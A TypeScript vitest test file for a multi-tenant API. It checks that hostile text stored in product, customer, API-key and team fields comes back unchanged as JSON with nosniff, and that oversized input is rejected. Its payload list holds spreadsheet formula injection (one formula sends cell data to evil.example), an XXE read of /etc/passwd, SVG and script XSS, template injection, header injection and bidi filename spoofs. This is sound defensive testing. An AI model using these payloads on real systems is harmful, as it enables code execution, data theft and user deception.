import { beforeAll, describe, expect, it } from 'vitest';
import { ok, type Caller } from '../system/http.ts';
import { newEmail, newTenant, type Tenant } from '../system/tenant.ts';
import { mapConcurrently } from '../system/map-concurrently.ts';

/** Texts that do something in a program which others open them with. */
const TEXTS = [
  `=cmd|'/c calc'!A0`,
  '=HYPERLINK("https://evil.example/"&A1,"click")',
  '+1+1',
  '-2+3+cmd()',
  '@SUM(1+1)*cmd()',
  '=1+1";=1+1',
  '%0A=1+1',
  '\u202Etxt.exe',
  'invoice\u202Egpj.exe',
  '\u2066abc\u2069\u2067def',
  '\u200Bzero\u200Bwidth\uFEFF',
  'a\u0301'.repeat(100),
  'Z̸̢͎a̵͕l̷̨g̵o̴',
  '[click](javascript:alert(1))',
  '![x](https://evil.example/x.png)',
  '# heading **bold** `code` <b>x</b>',
  '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
  '{{constructor.constructor("alert(1)")()}}',
  '\u001b]0;title\u0007\u001b[31mred',
  'line\r\nX-Injected: 1',
  'tab\tseparated, "quoted"; semicolon',
  '</title></textarea></script><script>alert(1)</script>',
  '\u{1F469}\u200D\u{1F469}\u200D\u{1F467}\u200D\u{1F466} family',
];

let tenant: Tenant;
beforeAll(async () => {
  tenant = await newTenant();
});

/** Every text of the API that others read, by its operation; each returns what is stored then. */
const writers = () => {
  const { api, user, P, teamPath } = tenant;
  const stored = async (created: ReturnType<Caller['post']>) => Object.values(await ok(created, 201))[0] as Stored;
  return [
    {
      field: 'product name',
      max: 250,
      store: async (text: string) => {
        const { id, name } = await stored(api.post(`${P}/products`, { name: text }));
        return { text: name, path: `${P}/products/${id}` };
      },
    },
    {
      field: 'product description',
      max: 5_000,
      store: async (text: string) => {
        const { id, description } = await stored(api.post(`${P}/products`, { name: 'x', description: text }));
        return { text: description, path: `${P}/products/${id}` };
      },
    },
    {
      field: 'customer name',
      max: 256,
      store: async (text: string) => {
        const { id, name } = await stored(api.post(`${P}/customers`, { email: newEmail(), name: text }));
        return { text: name, path: `${P}/customers/${id}` };
      },
    },
    {
      field: 'customer metadata',
      max: 500,
      store: async (text: string) => {
        const { id, metadata } = await stored(api.post(`${P}/customers`, { email: newEmail(), metadata: { text } }));
        return { text: metadata?.['text'], path: `${P}/customers/${id}` };
      },
    },
    {
      field: 'API key name',
      max: 120,
      store: async (text: string) => {
        const { name } = await stored(user.post(`${P}/api-keys`, { name: text, scopes: ['products:read'] }));
        return { text: name, path: `${P}/api-keys` };
      },
    },
    {
      field: 'team name',
      max: 120,
      store: async (text: string) => {
        const { name } = await stored(user.post('/api/service/teams', { name: text }));
        return { text: name, path: `${teamPath}/members` };
      },
    },
  ];
};

interface Stored {
  readonly id: string;
  readonly name?: string;
  readonly description?: string;
  readonly metadata?: Readonly<Record<string, string>>;
}

describe('stored text', () => {
  it('S46: formulas, bidirectional overrides, markdown, SVG and control sequences in any text come back as they were given, in JSON that no browser takes for a page', async () => {
    const cases = writers().flatMap((writer, at) =>
      TEXTS.filter((text, index) => text.length <= writer.max && (at < 2 || (index + at) % 5 === 0)).map(text => ({
        writer,
        text,
      })),
    );
    await mapConcurrently(cases, async ({ writer: { field, store }, text }) => {
      const { text: stored, path } = await store(text);
      // Text is in NFC, but for metadata, and names are trimmed.
      const inNfc = field.endsWith('metadata') ? text : text.normalize('NFC');
      expect(stored, field).toBe(field.endsWith('name') ? inNfc.trim() : inNfc);
      const asPage = { accept: 'text/html,application/xhtml+xml,image/svg+xml' };
      const caller = path.includes('api-keys') || path.includes('members') ? tenant.user : tenant.api;
      const { status, headers } = await caller.send('GET', path, undefined, asPage);
      expect(status, field).toBe(200);
      expect(headers.get('content-type')).toMatch(/^application\/json(?:; charset=utf-8)?$/);
      expect(headers.get('x-content-type-options')).toBe('nosniff');
      expect(headers.get('x-injected')).toBeNull();
    });
  });

  it('S46: a text longer than its field, 10 kB for one, is 400 and not cut', async () => {
    const { api, user, P } = tenant;
    const long = 'a'.repeat(10_240);
    const responses = await Promise.all([
      api.post(`${P}/products`, { name: long }),
      api.post(`${P}/products`, { name: 'x', description: long }),
      api.post(`${P}/customers`, { email: newEmail(), name: long }),
      api.post(`${P}/customers`, { email: newEmail(), externalId: long }),
      api.post(`${P}/customers`, { email: newEmail(), metadata: { text: long } }),
      api.post(`${P}/customers`, { email: newEmail(), metadata: { [long]: 'text' } }),
      api.post(`${P}/customers`, { email: `${long}@example.com` }),
      user.post(`${P}/api-keys`, { name: long, scopes: ['products:read'] }),
      user.post('/api/service/teams', { name: long }),
      user.patch(P, { name: long }),
    ]);
    expect(responses.map(({ status }) => status)).toEqual(responses.map(() => 400));
    // An error names the field, and does not repeat the text.
    for (const { body } of responses) expect(JSON.stringify(body).replaceAll(long, '').length).toBeLessThan(1_000);
  });
});
